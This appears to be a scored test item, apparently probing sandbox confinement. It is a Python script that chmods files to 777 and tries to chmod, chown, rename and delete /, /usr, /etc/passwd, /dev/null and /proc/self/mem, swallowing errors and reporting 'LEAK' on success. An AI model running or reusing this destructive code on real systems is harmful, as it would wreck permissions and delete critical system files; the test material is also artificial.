# tries: chmod -R and chown -R on the machine
# points: 4
# stock: harm
import os

changed = []
for top, folders, names in os.walk("/usr/lib/python3", topdown=True):
    for name in names[:3]:
        try:
            os.chmod(os.path.join(top, name), 0o777)
            changed.append(name)
        except OSError:
            pass
for path in ("/", "/usr", "/etc/passwd", "/dev/null", "/proc/self/mem"):
    for action in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 1000, 1000), lambda: os.rename(path, path + "x"), lambda: os.unlink(path)):
        try:
            action()
            if not path.startswith("/proc"):
                changed.append(path)
        except OSError:
            pass
if changed:
    print("LEAK:", changed)

def double(number):
    return 2 * number
